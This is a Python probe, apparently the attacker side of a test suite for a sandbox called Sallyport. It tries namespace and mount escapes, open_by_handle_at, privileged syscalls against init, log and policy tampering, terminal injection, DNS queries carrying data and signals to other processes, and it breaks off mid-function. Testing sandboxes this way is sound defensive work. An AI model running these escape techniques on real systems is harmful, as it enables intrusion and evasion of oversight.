#!/usr/bin/python3
"""What an attacker runs as CMD: inside.py NAME '{"argument": ...}'.

    sallyport run -p deny.conf -- python3 inside.py reach '{"paths": ["/run/x"]}'

At the end it says {"gained": [...], "tried": n}: what it got as far as it can see
itself, and how many ways it tried. Without Sallyport the same program is the
control: there it has to gain. {"ready": true} means that it waits for a line, so
that the host can change meanwhile.

Trusts: nothing; everything here is the attacker's. Must not: need more than
Python's standard library and the user's own rights.
"""
import contextlib
import ctypes
import fcntl
import errno
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWUSER, NEWPID, NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000
NEWIPC, NEWUTS, NEWCGROUP = 0x8000000, 0x4000000, 0x2000000
MS_BIND, MS_REC, MS_PRIVATE, MS_MOVE = 0x1000, 0x4000, 0x40000, 0x2000
MS_REMOUNT = 0x20
MNT_DETACH = 2
MARK = b"attack\n"
gains, tried = [], 0
files = False                   # what reached() is about


def gained(what):
    if what not in gains:
        gains.append(what)


def say(message):
    """On stdout; in a file where that is part of the attack."""
    text = json.dumps(message) + "\n"
    if "SAY_TO" in os.environ:
        with open(os.environ["SAY_TO"], "a", encoding="utf-8") as file:
            file.write(text)
    else:
        sys.stdout.write(text)
        sys.stdout.flush()


def wait():
    """The host changes something now."""
    say({"ready": True})
    sys.stdin.readline()


def attempt(function, *args, what=None):
    """True if it did not fail; counted."""
    global tried
    tried += 1
    try:
        function(*args)
    except (OSError, subprocess.SubprocessError, ValueError):
        return False
    if what:
        gained(what)
    return True


def call(number, *args):
    """A system call by its number; OSError if it fails."""
    libc.syscall.restype = ctypes.c_long
    ret = libc.syscall(ctypes.c_long(number), *[
        a if isinstance(a, (bytes, ctypes.Array, type(None)))
        or hasattr(a, "_obj") or isinstance(a, ctypes.c_void_p)
        else ctypes.c_long(a) for a in args])
    if ret == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return ret


def checked(ret):
    if ret != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))


def mount(source, target, kind, flags=0, data=None):
    checked(libc.mount(os.fsencode(source), os.fsencode(target), kind.encode(),
                       ctypes.c_ulong(flags), data.encode() if data else None))


def umount(target, flags=MNT_DETACH):
    checked(libc.umount2(os.fsencode(target), flags))


def write(path, text):
    with open(path, "w", encoding="ascii") as file:
        file.write(text)


def mounts():
    with open("/proc/self/mountinfo", encoding="utf-8") as file:
        return [line.split()[4].encode().decode("unicode_escape")
                for line in file]


# ---- nested namespaces ------------------------------------------------------------

def nested(function, flags=NEWUSER | NEWNS, full=True):
    """function() in a child in namespaces of its own, as their root. Its gains
    count; False if there are no such namespaces."""
    uid, gid = os.geteuid(), os.getegid()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        code = 1
        try:
            checked(libc.unshare(flags))
            if flags & NEWUSER and full:
                write("/proc/self/setgroups", "deny")
                write("/proc/self/uid_map", f"0 {uid} 1")
                write("/proc/self/gid_map", f"0 {gid} 1")
            os.write(w, b"+")
            gains.clear()
            function()
            code = 0
        except OSError:
            pass
        finally:
            os.write(w, json.dumps([gains, tried]).encode())
            os._exit(code)
    os.close(w)
    with os.fdopen(r, "rb") as file:
        text = file.read()
    os.waitpid(pid, 0)
    if not text.startswith(b"+"):
        return False
    more, count = json.loads(text[1:])
    for one in more:
        gained(one)
    globals()["tried"] = count
    return True


# ---- sockets ----------------------------------------------------------------------

KINDS = {"stream": socket.SOCK_STREAM, "dgram": socket.SOCK_DGRAM,
         "seqpacket": socket.SOCK_SEQPACKET}


def knock(path, word=None):
    """Says `word` to whoever hears at the path, whatever kind it is of."""
    text = (word or path).encode() + b"\n"
    for kind in KINDS.values():
        with socket.socket(socket.AF_UNIX, kind) as s:
            s.settimeout(3)
            if attempt(s.connect, path):
                attempt(s.send, text)
                return True
    return False


def knock_all(paths, word=None):
    for path in paths:
        if knock(path, word):
            gained(path)


def try_reach(paths, later=False):
    """Every path, by its name. later: when the host has changed."""
    if later:
        wait()
    knock_all(paths)


def by_fd(path):
    """Through an O_PATH descriptor of its directory."""
    fd = os.open(os.path.dirname(path), os.O_PATH)
    found = knock(f"/proc/self/fd/{fd}/{os.path.basename(path)}", path)
    os.close(fd)
    return found


def by_fd_of_itself(path):
    fd = os.open(path, os.O_PATH)
    found = knock(f"/proc/self/fd/{fd}", path)
    os.close(fd)
    return found


def by_hard_link(path):
    os.link(path, "linked")
    try:
        return knock("linked", path)
    finally:
        os.unlink("linked")


def by_symlink(path):
    os.symlink(os.path.dirname(path), "symlinked")
    try:
        return knock("symlinked/" + os.path.basename(path), path)
    finally:
        os.unlink("symlinked")


def by_link_of_fd(path):
    """linkat(AT_EMPTY_PATH): the inode gets a new name."""
    fd = os.open(path, os.O_PATH)
    try:
        os.link(f"/proc/self/fd/{fd}", "linked", follow_symlinks=True)
        return knock("linked", path)
    finally:
        os.close(fd)
        if os.path.lexists("linked"):
            os.unlink("linked")


def by_dots(path):
    return knock(os.getcwd() + "/" + "../" * 20 + path, path)


def by_var_run(path):
    return path.startswith("/run/") and knock("/var" + path, path)


def by_root_of(pid):
    def way(path):
        return knock(f"/proc/{pid}/root{path}", path)
    way.__name__ = f"root of {pid}"
    return way


def by_cwd_of_init(path):
    return knock(f"/proc/1/cwd/{'../' * 20}{path}", path)


def by_handle(path):
    """open_by_handle_at(2): past every mount."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    number = ctypes.c_int()
    call(303, -100, os.fsencode(path), handle, ctypes.byref(number), 0)
    where = os.open(os.path.dirname(path), os.O_RDONLY)
    fd = call(304, where, handle, os.O_PATH)
    return knock(f"/proc/self/fd/{fd}", path)


WAYS = [by_fd, by_fd_of_itself, by_hard_link, by_link_of_fd, by_symlink, by_dots,
        by_var_run,        by_root_of(1), by_root_of("self"), by_root_of("thread-self"),
        by_cwd_of_init, by_handle]


def try_roundabout(paths):
    """Every path, by everything but its name."""
    for path in paths:
        for way in WAYS:
            try:
                if way(path):
                    gained(f"{path} by {way.__name__}")
            except OSError:
                attempt(os.stat, "/nowhere")


def private():
    mount("none", "/", "none", MS_REC | MS_PRIVATE)


def bare(path, name):
    """Every mount at or above the path taken away, as far as it goes."""
    for place in reversed(mounts()):
        if place != "/" and (path + "/").startswith(place + "/"):
            for flags in (MNT_DETACH, 0, 1, 4):
                attempt(umount, place, flags)
    if reached(path):
        gained(f"{name} by umount")


def reached(path):
    """Of a socket: it answers. Of a file: it can be written."""
    if not files:
        return knock(path)
    try:
        if not os.path.isfile(path):
            return False
        with open(path, "ab") as file:
            return file.write(MARK) > 0
    except OSError:
        return False


def fresh(name):
    path = os.path.join(os.getcwd(), name)
    os.makedirs(path, exist_ok=True)
    return path


def mounted(path, way, make):
    """make(where) mounts something at `where` that would show what is below the
    covers; `path` is looked for in it."""
    where = fresh("where")
    if not attempt(make, where):
        return
    for candidate in (where + path, where + "/" + os.path.basename(path),
                      os.path.join(where, os.path.basename(
                          os.path.dirname(path)), os.path.basename(path))):
        if reached(candidate):
            gained(f"{path} by {way}")
    attempt(umount, where)


def tree(flags, source, where):
    """open_tree(2) and move_mount(2)."""
    fd = call(428, -100, os.fsencode(source), flags)
    try:
        call(429, fd, b"", -100, os.fsencode(where), 4)
    finally:
        os.close(fd)


def overlay(where, lower, upper=None):
    data = f"lowerdir={lower},userxattr"
    if upper:
        data += f",upperdir={upper},workdir={fresh('work')}"
    mount("overlay", where, "overlay", 0, data)


def swap_root(path):
    """pivot_root(2) into a copy of everything, the old one taken away."""
    new = fresh("root")
    mount("/", new, "none", MS_BIND | MS_REC)
    os.chdir(new)
    call(155, b".", b".")
    attempt(umount, ".")
    if reached(path):
        gained(f"{path} by pivot_root")


def under_the_covers(paths):
    """Everything that a user's root of a new mount namespace can do about them."""
    attempt(private)
    for path in paths:
        parent, grand = os.path.dirname(path), os.path.dirname(
            os.path.dirname(path))
        for source in ("/", parent, grand, path):
            mounted(path, "a bind", lambda w, s=source: mount(
                s, w, "none", MS_BIND))
            mounted(path, "a recursive bind", lambda w, s=source: mount(
                s, w, "none", MS_BIND | MS_REC))
            mounted(path, "open_tree", lambda w, s=source: tree(
                0x80001, s, w))                 # CLOEXEC | CLONE
            mounted(path, "open_tree, recursive", lambda w, s=source: tree(
                0x88001, s, w))
            mounted(path, "an overlay's lower", lambda w, s=source: overlay(
                w, s + ":" + fresh("empty")))
            mounted(path, "an overlay's upper", lambda w, s=source: overlay(
                w, fresh("empty"), s))
            mounted(path, "moving", lambda w, s=source: mount(
                s, w, "none", MS_MOVE))
        bare(path, path)
        attempt(mount, "none", parent, "none", MS_REMOUNT | MS_BIND)
        if reached(path):
            gained(f"{path} after a remount")
    for path in paths:
        attempt(swap_root, path)


def try_nested(paths):
    """The same from nested namespaces, alone, with others, twice over."""
    def deeper():
        nested(lambda: under_the_covers(paths))
    for flags in (NEWUSER | NEWNS, NEWUSER | NEWNS | NEWPID | NEWNET | NEWIPC |
                  NEWUTS | NEWCGROUP):
        nested(lambda: under_the_covers(paths), flags)
    nested(deeper, NEWUSER | NEWNS)
    nested(lambda: under_the_covers(paths), NEWNS, full=False)
    attempt(under_the_covers, paths)            # with no namespace of its own


def try_abstract(names):
    for name in names:
        if knock("\0" + name, "@" + name):
            gained("@" + name)


def try_shell(commands, later=False):
    """Each [command, words]: gained if its output has the words."""
    global tried
    if later:
        wait()
    for command, words in commands:
        tried += 1
        done = subprocess.run(["sh", "-c", command], capture_output=True,
                              timeout=20, check=False, text=True,
                              stdin=subprocess.DEVNULL)
        if words in done.stdout:
            gained(command)


# ---- files of the run: log, policy ------------------------------------------------

def append(path):
    with open(path, "ab") as file:
        file.write(MARK)


def cut(path):
    os.truncate(path, 0)


def replace(path):
    with open("mine", "wb") as file:
        file.write(MARK)
    os.rename("mine", path)


def exchange(path):
    """renameat2(RENAME_EXCHANGE)."""
    with open("mine", "wb") as file:
        file.write(MARK)
    call(316, -100, b"mine", -100, os.fsencode(path), 2)


def by_descriptor(path):
    fd = os.open(os.path.dirname(path), os.O_PATH)
    try:
        with open(os.open(os.path.basename(path), os.O_WRONLY | os.O_APPEND,
                          dir_fd=fd), "ab") as file:
            file.write(MARK)
    finally:
        os.close(fd)


def by_proc_root(path):
    append("/proc/1/root" + path)


def by_link(path):
    os.link(path, "hard")
    append("hard")


def spoil(path):
    """Everything that can be done to a file by its name."""
    for way in (append, by_descriptor, by_proc_root, by_link, exchange, replace,
                cut, os.unlink):
        if attempt(way, path):
            gained(f"{way.__name__} of {os.path.basename(path)}")


def segments(path):
    """The file, and the logs that lie beside it or in a directory of its own."""
    found = [path]
    for where in (os.path.dirname(path), path + ".d"):
        if attempt(os.listdir, where):
            found += [os.path.join(where, n) for n in sorted(os.listdir(where))
                      if n.startswith(os.path.basename(path)) or ".jsonl" in n]
    return found


def many_refusals(count):
    """Records, by connections that the policy refuses."""
    for n in range(count):
        with socket.socket() as s:
            s.setblocking(False)
            attempt(s.connect, (f"192.0.{2 + n % 250}.{1 + n // 250 % 250}", 9))
            if n % 50 == 49:
                time.sleep(0.05)


def try_spoil(path, refusals=0, later=False):
    """The run's own log, its directory's other files, and what rotation made."""
    if refusals:
        many_refusals(refusals)
    if later:
        wait()
    for one in segments(path):
        spoil(one)


def above(path, top):
    """The directories above it, the lowest first, below `top`."""
    found = []
    while (path := os.path.dirname(path)) not in ("/", top):
        found.append(path)
    return found


def try_ancestors(path, top, content=None, fifo=False):
    """Another tree in the place of the one that leads to `path`: each directory
    above it, and each symbolic link, renamed away; then a file of ours there."""
    for one in above(path, top):
        if attempt(os.rename, one, one + ".away"):
            gained(f"{one} was renamed")
        elif attempt(os.rename, one, os.path.join(top, "away")):
            gained(f"{one} was moved")
        elif os.path.islink(one) and attempt(os.unlink, one):
            gained(f"{one} was unlinked")
        else:
            attempt(os.symlink, "elsewhere", "swap")
            if attempt(call, 316, -100, b"swap", -100, os.fsencode(one), 2):
                os.unlink(one)
                gained(f"{one} was exchanged")
        if gains and attempt(os.makedirs, os.path.dirname(path), 0o700):
            break
    if gains and not os.path.lexists(path):
        text = MARK
        if content:
            with open(content, "rb") as file:
                text = file.read()
        if fifo:
            attempt(os.mkfifo, path, what="a FIFO is there")
        else:
            with open(path, "wb") as file:
                file.write(text)
            gained("a file of ours is there")


def try_under(paths):
    """Files, from nested namespaces."""
    globals()["files"] = True
    try_nested(paths)


def try_connect(dst, port, later=False, count=1):
    """Gained: connections; and how long the last one took."""
    if later:
        wait()
    longest = 0
    for _ in range(count):
        begun = time.monotonic()
        with socket.socket(address(dst)) as s:
            s.settimeout(25)
            if attempt(s.connect, (dst, port)):
                attempt(s.sendall, MARK)
                gained("connected")
        longest = max(longest, time.monotonic() - begun)
    say({"seconds": longest})


def try_nothing():
    """A CMD that does no harm."""
    attempt(os.getpid)


# ---- what is inherited --------------------------------------------------------------

def address(dst):
    return socket.AF_INET6 if ":" in dst else socket.AF_INET


def taken(fd):
    """The descriptor as a socket object."""
    return socket.socket(fileno=os.dup(fd))


def use_udp(fd, dst, port):
    with taken(fd) as s:
        s.sendto(b"udp\n", (dst, port))


def use_tcp_again(fd, dst, port):
    """A TCP socket that is no longer connected connects elsewhere."""
    with taken(fd) as s:
        checked(libc.connect(s.fileno(), bytes(16), 16))      # AF_UNSPEC
        s.settimeout(5)
        s.connect((dst, port))
        s.sendall(b"tcp\n")


def use_tcp(fd, dst, port):
    with taken(fd) as s:
        s.settimeout(5)
        s.connect((dst, port))
        s.sendall(b"tcp\n")


def use_fast_open(fd, dst, port):
    with taken(fd) as s:
        s.sendto(b"tfo\n", 0x20000000, (dst, port))


def use_raw(fd, dst, port):
    packet = struct.pack("!BBHIBBH4s4s", 0x45, 0, 28 + 4, 0, 64, 17, 0,
                         bytes(4), socket.inet_aton(dst)) + struct.pack(
                             "!HHHH", 999, port, 12, 0) + b"raw\n"
    with taken(fd) as s:
        s.sendto(packet, (dst, 0))


def use_listener(fd, *_):
    """Who connects to the host comes to CMD."""
    with taken(fd) as s:
        s.settimeout(3)
        s.accept()[0].close()


def use_netns(fd, dst, port):
    checked(libc.setns(fd, 0))
    with socket.socket(address(dst), socket.SOCK_DGRAM) as s:
        s.sendto(b"netns\n", (dst, port))


def use_netlink(fd, *_):
    """A request to the host's rtnetlink: a new link."""
    with taken(fd) as s:
        s.settimeout(2)
        s.send(struct.pack("=IHHII BxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))
        if len(s.recv(65536)) < 40:
            raise OSError("nothing")


def use_pidfd(fd, *_):
    """A descriptor of the process that it belongs to."""
    got = call(438, fd, 1, 0)                   # pidfd_getfd
    os.close(got)


def use_directory(fd, *_):
    """Up and down again, where no cover of ours is."""
    for up in ("..", "run", "."):
        with contextlib.suppress(FileNotFoundError):
            os.close(os.open(up + "/secret-of-the-host", os.O_RDONLY, dir_fd=fd))
            return
    raise OSError("not there")


def use_directory_as_cwd(fd, *_):
    back = os.open(".", os.O_PATH)
    try:
        os.fchdir(fd)
        if not os.path.exists("../secret-of-the-host") and \
                not os.path.exists("run/secret-of-the-host"):
            raise OSError("not there")
    finally:
        os.fchdir(back)
        os.close(back)


def use_mount(fd, *_):
    """A detached tree: what is in it."""
    os.close(os.open("run/secret-of-the-host", os.O_RDONLY, dir_fd=fd))


def use_device(fd, *_):
    os.pread(fd, 1, 0)


USES = [use_udp, use_tcp, use_tcp_again, use_fast_open, use_raw, use_listener,
        use_netlink, use_pidfd, use_directory, use_directory_as_cwd, use_mount,
        use_netns]


def try_inherited(fds, dst, port):
    """Everything with each of these descriptors."""
    for fd in fds:
        for use in USES:
            if attempt(use, fd, dst, port):
                gained(use.__name__[4:])


def try_descriptors():
    """Which descriptors there are at all, beyond 0, 1 and 2."""
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2 and attempt(os.readlink, f"/proc/self/fd/{name}"):
            where = os.readlink(f"/proc/self/fd/{name}")
            if not where.endswith("/fd"):
                gained(f"{name}: {where}")


# ---- the kernel ---------------------------------------------------------------------

def word_of(function, *args):
    """What came of it, in a word: "ok" or the error's name; counted."""
    global tried
    tried += 1
    try:
        function(*args)
        return "ok"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))


def family_of(number, kind):
    fd = call(41, number, kind, 0)
    os.close(fd)


def pair_of(number, kind):
    call(53, number, kind, 0, (ctypes.c_int * 2)())


def raw_of(family, kind, proto):
    fd = call(41, family, kind, proto)
    os.close(fd)


def families():
    """Every family but those that a program needs; every raw socket of those."""
    found = {}
    for family in range(47):
        for kind in (1, 2, 3, 5):
            if family not in (1, 2, 10, 16):
                found[f"socket {family} {kind}"] = (family_of, family, kind)
                found[f"socketpair {family} {kind}"] = (pair_of, family, kind)
    for family in (2, 10):
        for proto in (1, 6, 17, 58, 255):
            found[f"raw {family} {proto}"] = (raw_of, family, 3, proto)
    return found


ZERO = bytes(256)
CALLS = {                       # x86-64's numbers
    "ptrace(ATTACH, init)": (101, 16, 1, 0, 0),
    "ptrace(SEIZE, init)": (101, 0x4206, 1, 0, 0),
    "kcmp(init)": (312, 1, 1, 0, 0, 0),
    "keyctl(JOIN_SESSION)": (250, 1, None),
    "keyctl(GET_KEYRING_ID)": (250, 0, -4, 0),
    "add_key": (248, b"user", b"x", b"x", 1, -5),
    "request_key": (249, b"user", b"x", None, 0),
    "io_uring_setup": (425, 4, ctypes.create_string_buffer(ZERO)),
    "io_uring_enter": (426, -1, 0, 0, 0, None, 0),
    "io_uring_register": (427, -1, 0, None, 0),
    "bpf(MAP_CREATE)": (321, 0, ctypes.create_string_buffer(struct.pack(
        "IIII", 1, 4, 4, 4) + ZERO), 64),
    "bpf(PROG_LOAD)": (321, 5, ctypes.create_string_buffer(ZERO), 64),
    "mount a tmpfs": (165, b"none", b"/mnt", b"tmpfs", 0, None),
    "mount a bind": (165, b"/", b"/mnt", b"none", MS_BIND, None),
    "mount a move": (165, b"/run", b"/mnt", b"none", MS_MOVE, None),
    "remount": (165, b"none", b"/", b"none", MS_REMOUNT | MS_BIND, None),
    "share": (165, b"none", b"/", b"none", 0x100000, None),
    "umount /run": (166, b"/run", 2), "umount /tmp": (166, b"/tmp", 2),
    "umount /proc": (166, b"/proc", 2), "umount /dev": (166, b"/dev", 2),
    "umount /etc/resolv.conf": (166, b"/etc/resolv.conf", 2),
    "pivot_root": (155, b"/", b"/"), "chroot": (161, b"/"),
    "open_tree(CLONE)": (428, -100, b"/", 0x80001),
    "fsopen": (430, b"tmpfs", 0), "fspick": (433, -100, b"/", 0),
    "mount_setattr": (442, -100, b"/", 0x8000, ctypes.create_string_buffer(
        struct.pack("QQQQ", 0, 2, 0, 0)), 32),
    "unshare(NEWNS)": (272, NEWNS), "unshare(NEWNET)": (272, NEWNET),
    "unshare(NEWPID)": (272, NEWPID), "unshare(NEWUTS)": (272, NEWUTS),
    "sethostname": (170, b"x", 1), "setuid(0)": (105, 0), "setgid(0)": (106, 0),
    "setgroups": (116, 1, ctypes.create_string_buffer(ZERO)),
    "capset": (126, ctypes.create_string_buffer(struct.pack(
        "II", 0x20080522, 0)), ctypes.create_string_buffer(struct.pack(
            "6I", *[0xffffffff] * 6))),
    "prctl(CAP_AMBIENT_RAISE)": (157, 47, 2, 13, 0, 0),
    "prctl(SET_SECCOMP off)": (157, 22, 0, 0, 0, 0),
    "prctl(SET_NO_NEW_PRIVS off)": (157, 38, 0, 0, 0, 0),
    "open_by_handle_at": (304, 3, ctypes.create_string_buffer(struct.pack(
        "Ii", 8, 1) + ZERO), 0),
    "kexec_load": (246, 0, 0, None, 0), "init_module": (175, None, 0, b""),
    "finit_module": (313, 0, b"", 0), "delete_module": (176, b"x", 0),
    "swapon": (167, b"/x", 0), "reboot": (169, 0xfee1dead, 672274793, 0, 0),
    "acct": (163, b"/x"), "quotactl": (179, 0, None, 0, None),
    "iopl": (172, 3), "ioperm": (173, 0, 1, 1), "settimeofday": (
        164, ctypes.create_string_buffer(struct.pack("qq", 1, 1)), None),
    "clock_settime": (227, 0, ctypes.create_string_buffer(struct.pack("qq", 1, 1))),
    "perf_event_open": (298, ctypes.create_string_buffer(struct.pack(
        "IIQ", 1, 128, 0) + ZERO), -1, 0, -1, 0),
    "syslog(READ_ALL)": (103, 3, ctypes.create_string_buffer(ZERO), 256),
    "fanotify_init(CONTENT)": (300, 4, 0),
    "lookup_dcookie": (212, 1, ctypes.create_string_buffer(ZERO), 256),
    "setns(init's net)": (308, "/proc/1/ns/net", NEWNET),
    "setns(init's user)": (308, "/proc/1/ns/user", NEWUSER),
    "setns(init's mnt)": (308, "/proc/1/ns/mnt", NEWNS),
    "pidfd_getfd(init)": (438, "pidfd", 0, 0),
    "process_madvise(init)": (440, "pidfd", None, 0, 4, 0),
    "ioprio_set(USER)": (251, 3, "uid", 0x4000),
    "ioprio_set(PGRP)": (251, 2, 0, 0x4000),
    "setpriority(USER)": (141, 2, "uid", 5), "setpriority(PGRP)": (141, 1, 0, 5),
    "vhangup": (153,), "nfsservctl": (180, 0, None, None),
    "personality(ADDR_NO_RANDOMIZE)": (135, 0x40000),
}


def prepared(arguments):
    """The words in a row become what they are about."""
    done = []
    for one in arguments:
        if one == "pidfd":
            one = os.pidfd_open(1)
        elif one == "uid":
            one = os.getuid()
        elif isinstance(one, str):
            one = os.open(one, os.O_RDONLY)
        done.append(one)
    return done


def try_calls():
    outcomes({n: (lambda a=a: call(*prepared(a)),) for n, a in CALLS.items()})


def try_families():
    outcomes(families())


def outcomes(rows):
    """Every row in a process of its own: {"words": {name: outcome}}."""
    words = {}
    for name, (function, *args) in rows.items():
        r, w = os.pipe()
        if (pid := os.fork()) == 0:
            os.write(w, word_of(function, *args).encode())
            os._exit(0)
        os.close(w)
        words[name] = os.read(r, 64).decode() or "died"
        os.close(r)
        os.waitpid(pid, 0)
        globals()["tried"] += 1
    say({"words": words})


def try_doors(probe):
    """The same call by i386's door, by x32's, and with high bits."""
    for door in ("i386", "x32", "x86-64"):
        for what in ("40", "38", "31", "17"):
            done = subprocess.run([probe, door, what], check=False,
                                  capture_output=True)
            globals()["tried"] += 1
            if done.returncode == 0:
                gained(f"socket({what}) by {door}")
    if attempt(call, 41, 40 | 1 << 32, 1, 0):
        gained("socket(40) with high bits")


DEVICES = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "tun", "fd",
           "stdin", "stdout", "stderr", "shm", "mqueue", "pts", "net", "console"}


def try_devices():
    """Every node of /dev that opens and is not one that everybody needs; the
    queues of the host."""
    for top, _, names in os.walk("/dev"):
        for name in names:
            path = os.path.join(top, name)
            if name in DEVICES or "/pts/" in path or path.startswith(
                    ("/dev/fd/", "/dev/shm/", "/dev/mqueue/")):
                continue
            for how in (os.O_RDONLY, os.O_RDWR):
                if attempt(lambda p=path, h=how: os.close(os.open(
                        p, h | os.O_NONBLOCK | os.O_NOCTTY))):
                    gained(path)
                    break


def try_queues():
    """POSIX queues of the host, by the file system that shows them."""
    if not os.path.isdir("/dev/mqueue"):
        return
    for name in os.listdir("/dev/mqueue"):
        path = "/dev/mqueue/" + name
        if attempt(lambda p=path: call(242, os.open(p, os.O_RDWR), b"attack", 6,
                                       0, None)):
            gained(path)


def try_link():
    """eth0, its tap, routes, neighbours; taps of other names."""
    for command in ("link set eth0 down", "link set lo down",
                    "address add 10.9.9.9/24 dev eth0",
                    "route replace default via 10.0.2.3",
                    "neigh replace 10.0.2.2 lladdr 02:00:00:00:00:99 dev eth0",
                    "link add d0 type dummy", "tuntap add tap9 mode tap",
                    "rule add from all lookup 9", "link set eth0 netns 1"):
        done = subprocess.run(["ip", *command.split()], check=False,
                              capture_output=True)
        globals()["tried"] += 1
        if done.returncode == 0:
            gained("ip " + command)
    for flags in (0x1002, 0x1001, 0x5002, 0x1102):
        attempt(tap, b"eth0", flags, what=f"TUNSETIFF eth0 {flags:#x}")
        attempt(tap, b"mine", flags, what=f"TUNSETIFF {flags:#x}")


def tap(name, flags):
    with open("/dev/net/tun", "r+b", buffering=0) as file:
        fcntl.ioctl(file, 0x400454ca, struct.pack("16sH22x", name, flags))


# ---- signals and schedules of others ---------------------------------------------------

def by_owner(s, number):
    """F_SETOWN, F_SETSIG, O_ASYNC: what comes is told to the owner."""
    checked(libc.fcntl(s.fileno(), 8, number))
    checked(libc.fcntl(s.fileno(), 10, 10))                 # F_SETSIG, SIGUSR1
    checked(libc.fcntl(s.fileno(), 4, 0o20000 | 0o4000))


def by_ioctl(s, number, request=0x8901):
    fcntl.ioctl(s, request, struct.pack("i", number))
    checked(libc.fcntl(s.fileno(), 10, 10))
    checked(libc.fcntl(s.fileno(), 4, 0o20000 | 0o4000))


def by_owner_ex(s, _):
    fcntl.fcntl(s, 15, struct.pack("ii", 2, os.getpgrp()))   # F_OWNER_PGRP
    checked(libc.fcntl(s.fileno(), 10, 10))
    checked(libc.fcntl(s.fileno(), 4, 0o20000 | 0o4000))


def asynchronous(way):
    """A socket that signals when it can be read; then it can."""
    for number in (-os.getpgrp(), 0, -1, -2):
        a, b = socket.socketpair()
        if attempt(way, a, number):
            b.send(b"x")
            time.sleep(0.05)


def try_signals(later=False):
    """Everything that sends a signal to a group, or to all. Nobody inside minds."""
    import signal
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    if later:
        wait()
    for target in (0, -1, -os.getpgrp(), -2):
        attempt(os.kill, target, signal.SIGUSR1)
    attempt(os.killpg, 0, signal.SIGUSR1)
    child = os.fork()
    if child == 0:
        time.sleep(2)
        os._exit(0)
    for pid in (child, os.getpid(), 1):
        for flags in (0, 1, 2, 4):                          # 4: its whole group
            attempt(lambda p=pid, f=flags: call(
                424, os.pidfd_open(p), signal.SIGUSR1, None, f))
    for way in (by_owner, by_ioctl, by_owner_ex,
                lambda s, n: by_ioctl(s, n, 0x8902)):
        asynchronous(way)
    os.kill(child, 9)
    os.waitpid(child, 0)


def try_schedules(later=False):
    """Priorities of everybody of this user, or of this group."""
    if later:
        wait()
    for which, who in ((1, 0), (2, 0), (2, os.getuid())):
        attempt(call, 141, which, who, 7)
        attempt(call, 141 | 0x40000000, which, who, 7)
    for which, who in ((2, 0), (3, 0), (3, os.getuid())):
        attempt(call, 251, which, who, 0x4007)


# ---- terminals ------------------------------------------------------------------------

def try_terminals(names, later=False):
    """Terminals that are not CMD's own: by name, by every node there is, by others'
    descriptors."""
    if later:
        wait()
    paths = list(names)
    for top in ("/dev/pts", "/proc/1/root/dev/pts"):
        if attempt(os.listdir, top):
            paths += [f"{top}/{n}" for n in os.listdir(top) if n.isdigit()]
    for path in dict.fromkeys(paths):
        try:
            if os.path.sameopenfile(0, os.open(path, os.O_PATH)):
                continue                    # its own
        except OSError:
            pass
        if attempt(speak, path):
            gained(f"{path} opens")


def speak(path):
    fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        os.write(fd, b"attack " + path.encode() + b"\n")
    finally:
        os.close(fd)


def try_type():
    """Characters into the caller's own terminal: {"words": ...}."""
    words = {}
    x = ctypes.create_string_buffer(b"x")
    for name, request in (("TIOCSTI", 0x5412), ("TIOCLINUX", 0x541c),
                          ("TIOCSTI with high bits", 0x5412 | 1 << 32),
                          ("TIOCLINUX with high bits", 0x541c | 7 << 32)):
        for fd in (0, 1, 2):
            words[f"{name} {fd}"] = word_of(call, 16, fd, request, x)
        if attempt(os.close, os.open("/dev/tty", os.O_RDWR)):
            words[name + " /dev/tty"] = word_of(
                call, 16, os.open("/dev/tty", os.O_RDWR), request, x)
    say({"words": words})


# ---- names and flows --------------------------------------------------------------------

def question(name, ident):
    return struct.pack("!6H", ident, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(x)]) + x.encode() for x in name.split(".")) + \
        b"\0" + struct.pack("!HH", 1, 1)


def try_ask(names, server="10.0.2.2", port=53, seconds=0.2, later=False):
    """Questions for names that carry something; then it is gone."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for number, name in enumerate(names):
            attempt(s.sendto, question(name, number + 1), (server, port))
        say({"asked": len(names)})
        if later:
            wait()
        time.sleep(seconds)


def try_keep(dst, port, seconds=5, later=False):
    """A connection on which nothing is said."""
    with socket.socket() as s:
        s.settimeout(5)
        if attempt(s.connect, (dst, port)):
            gained("connected")
        if later:
            wait()
        time.sleep(seconds)


def try_flows(dst, port, count, data=0):
    """So many at once, each with `data` bytes that nobody reads; they stay until
    the host says go."""
    open_ = []
    for _ in range(count):
        s = socket.socket()
        s.settimeout(5)
        if not attempt(s.connect, (dst, port)):
            continue
        s.setblocking(False)
        open_.append(s)
    block, end = b"x" * 65536, time.monotonic() + 20
    sent = [0] * len(open_)
    last = time.monotonic()
    while data and time.monotonic() < end and time.monotonic() - last < 2:
        for n, s in enumerate(open_):
            try:
                if sent[n] < data:
                    sent[n] += s.send(block)
                    last = time.monotonic()
            except OSError:
                pass
    gained(f"{len(open_)} flows, {sum(sent)} bytes")
    wait()


def try_datagram(dst, port):
    with socket.socket(address(dst), socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        attempt(s.sendto, MARK, (dst, port))
        if attempt(s.recv, 100):
            gained("an answer")


def try_datagrams(dst, port, later=False, count=8):
    """One flow: a datagram, then the host changes, then more of it."""
    with socket.socket(address(dst), socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        attempt(s.sendto, MARK, (dst, port))
        attempt(s.recv, 100)
        if later:
            wait()
        for _ in range(count):
            attempt(s.sendto, MARK, (dst, port))
            time.sleep(0.2)


def try_refusals(seconds, dst=None):
    """Connects as fast as they are, each elsewhere; with dst, each to another of
    its ports, where nobody listens."""
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with socket.socket() as s:
            n += 1
